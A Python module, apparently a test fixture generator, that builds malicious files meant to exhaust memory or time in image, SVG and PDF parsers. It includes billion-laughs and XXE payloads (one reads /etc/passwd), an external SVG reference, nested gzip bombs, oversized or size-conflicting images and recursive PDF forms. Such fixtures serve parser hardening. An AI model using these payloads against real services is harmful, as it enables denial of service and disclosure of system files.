"""Files that are small, and ask for much memory or time: a container that holds too much of the same."""

import gzip
import struct
import zlib
from base64 import b64encode
from collections.abc import Callable, Mapping, Sequence
from math import cos, pi, sin
from typing import TypeAlias

from adversary.nesting import SVG

LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
Size: TypeAlias = tuple[int, int]
"""Width and height in pixels."""
URL = "http://192.0.2.1/tangram.svg"
"""An address that leads nowhere (RFC 5737)."""


def png(width: int, height: int, *, frames: int = 1) -> bytes:
    """Return a picture of one colour, as small as such a picture can be.

    Args:
        width: in pixels.
        height: in pixels.
        frames: the number of times that the data is there.
    """

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    pixels = zlib.compressobj()
    row = bytes(1 + width // 8)
    packed = b"".join(pixels.compress(row) for _ in range(height)) + pixels.flush()
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", packed) * frames + chunk(b"IEND", b"")


def png_with_text(megabytes: int) -> bytes:
    """Return a small picture with a comment that is compressed."""
    content = b"Comment\0\0" + zlib.compress(bytes(megabytes << 20), 9)
    chunk = struct.pack(">I", len(content)) + b"zTXt" + content + struct.pack(">I", zlib.crc32(b"zTXt" + content))
    small = png(64, 64)
    return small[:33] + chunk + small[33:]


def webp(width: int, height: int) -> bytes:
    """Return the head of a lossless WebP that says that it is large."""
    bits = (width - 1) | (height - 1) << 14
    data = b"\x2f" + struct.pack("<I", bits) + bytes(40)
    chunk = b"VP8L" + struct.pack("<I", len(data)) + data + bytes(len(data) % 2)
    return b"RIFF" + struct.pack("<I", len(chunk) + 4) + b"WEBP" + chunk


def jpeg(width: int, height: int) -> bytes:
    """Return the head of a JPEG that says that it is large."""
    return b"\xff\xd8" + _frame(width, height) + _segment(0xDA, b"\1\1\0\0\x3f\0") + bytes(40) + b"\xff\xd9"


def jpeg_of_two_sizes(between: bytes, said: Size, size: Size) -> bytes:
    """Return a JPEG of one colour, and with another size where a careless reader of its header ends.

    Args:
        between: what stands before the header of its frame: a marker without a length, or no marker at all. Who takes
            the next two bytes for a length jumps into a comment.
        said: the size that the comment says.
        size: the size that it has.
    """
    head = b"\xff\xd8" + between + _frame(*size)
    landing = 2 + len(between) + 0xFFC0
    comment = _segment(0xFE, bytes(landing - len(head) - 4) + _frame(*said))
    tables = _segment(0xDB, b"\0" + b"\1" * 64) + b"".join(
        _segment(0xC4, kind + b"\1" + bytes(16)) for kind in (b"\0", b"\x10")
    )
    blocks = -(-size[0] // 8) * -(-size[1] // 8)
    return head + comment + tables + _segment(0xDA, b"\1\1\0\0\x3f\0") + bytes(blocks // 4 + 1) + b"\xff\xd9"


def _frame(width: int, height: int) -> bytes:
    return _segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\1\x11\0")


def tiff(*fields: tuple[int, int], pixels: int) -> bytes:
    """Return a TIFF of one black page, packed.

    Args:
        fields: tags with their numbers, in any order and number, beside those that every page has.
        pixels: the number of pixels that it has.
    """
    packer = zlib.compressobj()
    packed = b"".join(packer.compress(bytes(min(1 << 20, pixels - done))) for done in range(0, pixels, 1 << 20))
    packed += packer.flush()
    usual = ((258, 8), (259, 8), (262, 1), (277, 1), (278, 1 << 30), (273, 8), (279, len(packed)))
    entries = [struct.pack("<HHII", tag, 4, 1, number) for tag, number in (*fields, *usual)]
    directory = struct.pack("<H", len(entries)) + b"".join(entries) + bytes(4)
    return b"II*\0" + struct.pack("<I", 8 + len(packed)) + packed + directory


def bmp(width: int, height: int) -> bytes:
    """Return a BMP of 8 bits whose rows are packed: it ends at once, and the rest has one colour."""
    head = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, 2, 0, 0, 256, 0) + bytes(1024)
    return b"BM" + struct.pack("<III", 16 + len(head), 0, 14 + len(head)) + head + b"\0\1"


def webp_of_two_sizes(said: Size, size: Size) -> bytes:
    """Return the head of a WebP whose canvas and picture have two sizes."""
    canvas = b"VP8X" + struct.pack("<II", 10, 0) + b"".join((side - 1).to_bytes(3, "little") for side in said)
    chunks = canvas + webp(*size)[12:]
    return b"RIFF" + struct.pack("<I", len(chunks) + 4) + b"WEBP" + chunks


def jpeg_of_scans(width: int, height: int, scans: int) -> bytes:
    """Return a JPEG that says everything again in each of many scans, each of no more than its head."""
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\1\x11\0"
    tables = _segment(0xDB, b"\0" + b"\1" * 64) + _segment(0xC4, b"\0\1" + bytes(15) + b"\0")
    begin = b"\xff\xd8" + tables + _segment(0xC2, frame)
    return begin + (_segment(0xDA, b"\1\1\0\0\0\0") + bytes(8)) * scans + b"\xff\xd9"


def _segment(marker: int, content: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content


def stream(data: bytes, entries: str = "") -> bytes:
    """Return a stream of a PDF."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries.encode(), data)


def pdf(contents: Sequence[bytes], objects: Sequence[bytes] = ()) -> bytes:
    """Return a PDF of pages, whose contents are streams, and of other objects, which are numbered from 20."""
    kids = " ".join(f"{3 + 2 * i} 0 R" for i in range(len(contents)))
    numbered = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: f"<< /Type /Pages /Count {len(contents)} /Kids [{kids}] >>".encode(),
    }
    for i, content in enumerate(contents):
        page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 400] /Resources << /XObject << /F 20 0 R >> >>"
        numbered[3 + 2 * i] = f"{page} /Contents {4 + 2 * i} 0 R >>".encode()
        numbered[4 + 2 * i] = content
    numbered |= dict(enumerate(objects, 20))
    text, places = b"%PDF-1.4\n", b""
    for number, content in numbered.items():
        places += b"%d 1\n%010d 00000 n \n" % (number, len(text))
        text += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    tail = b"trailer << /Size 99 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(text)
    return text + b"xref\n" + places + tail


_EVERY_FORM = "/Type /XObject /Subtype /Form /BBox [0 0 400 400] /Resources << /XObject << /F {} 0 R >> >>"
FORMS = [
    *[stream(b"/F Do " * 10, _EVERY_FORM.format(21 + depth)) for depth in range(12)],
    stream(b"0 0 9 9 re f", _EVERY_FORM.format(20)),
]
"""Forms that draw the next one ten times, which draws the next one ten times: little in the file, much in memory."""
FIRST_FORM = stream(b"/F Do")
_JPEG = (
    "/Type /XObject /Subtype /Image /Width {} /Height {} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode"
)
_STAR = [((9 + n % 2 * 9) * cos(n * pi / 20), (9 + n % 2 * 9) * sin(n * pi / 20)) for n in range(40)]
STARS = b"".join(
    b" l ".join(b"%.2f %.2f" % (40 * i + 20 + x, 40 * j + 20 + y) for x, y in _STAR).replace(b"l", b"m", 1) + b" l f\n"
    for i in range(10)
    for j in range(10)
)
"""A page of figures that no pieces have, with many narrow places each."""
TEM = b"\xff\1"
"""A marker of JPEG that has no length."""
SMALL, LARGE = (100, 100), (30_000, 30_000)


def _packed(text: str, megabytes: int) -> bytes:
    return gzip.compress(text.encode() + b" " * (megabytes << 20), 1)


BOMBS: Mapping[str, Callable[[], bytes]] = {
    "a billion laughs": lambda: f'<!DOCTYPE svg [<!ENTITY l0 "ha">{LAUGHS}]>{SVG}<path d="&l9;"/></svg>'.encode(),
    "a file as entity": lambda: (
        f'<!DOCTYPE svg [<!ENTITY a SYSTEM "/etc/passwd">]>{SVG}<text>&a;</text></svg>'.encode()
    ),
    "a drawing elsewhere": lambda: f'{SVG}<use xlink:href="{URL}#a"/></svg>'.encode(),
    "a packed drawing": lambda: _packed(SVG, 256),
    "a packed bomb in a bomb": lambda: gzip.compress(_packed(SVG, 16)),
    "many packed parts": lambda: gzip.compress(SVG.encode()) + gzip.compress(b" " * (1 << 20)) * 400,
    "a picture of 30,000 pixels": lambda: png(30_000, 30_000),
    "a picture at the limit": lambda: png(6000, 6000),
    "a picture that is long": lambda: png(8, 1_000_000),
    "a picture of many parts": lambda: png(2000, 2000, frames=300),
    "a picture with a comment": lambda: png_with_text(900),
    "a WebP of 16,383 pixels": lambda: webp(16_383, 16_383),
    "a JPEG of 65,500 pixels": lambda: jpeg(65_500, 65_500),
    "a JPEG of many scans": lambda: jpeg_of_scans(6000, 6000, 5000),
    "a JPEG of two sizes": lambda: jpeg_of_two_sizes(TEM, SMALL, LARGE),
    "a JPEG with filling in its head": lambda: jpeg_of_two_sizes(b"\xff\xff\xff\xd3", SMALL, LARGE),
    "a TIFF of two widths": lambda: tiff((256, 30_000), (256, 100), (257, 30_000), (257, 100), pixels=30_000**2),
    "a TIFF of two depths": lambda: tiff((256, 7000), (257, 7000), (258, 64), (277, 4), pixels=10**8),
    "a TIFF of a large tile": lambda: tiff((256, 100), (257, 100), (322, 30_000), (323, 30_000), pixels=10**8),
    "a BMP of 30,000 pixels": lambda: bmp(30_000, 30_000),
    "a BMP at the limit": lambda: bmp(4000, -4000),
    "a WebP of two sizes": lambda: webp_of_two_sizes(SMALL, (16_383, 16_383)),
    "a PDF of a JPEG of two sizes": lambda: pdf(
        [stream(b"400 0 0 400 0 0 cm /F Do")],
        [stream(jpeg_of_two_sizes(TEM, SMALL, LARGE), _JPEG.format(*SMALL))],
    ),
    "a picture in a drawing": lambda: (
        f'{SVG}<image width="9" height="9" xlink:href="data:image/png;base64,{b64encode(png(*LARGE)).decode()}"/></svg>'
    ).encode(),
    "a PDF of forms": lambda: pdf([FIRST_FORM], FORMS),
    "a PDF of many pages": lambda: pdf([FIRST_FORM] * 30, FORMS),
    "a PDF of rough figures": lambda: pdf([stream(STARS)] * 12),
    "a PDF that is wide": lambda: pdf([stream(b"0 0 9 9 re f")]).replace(b"[0 0 400 400]", b"[0 0 9e9 9e9]"),
}
"""Makes a file that asks for much."""
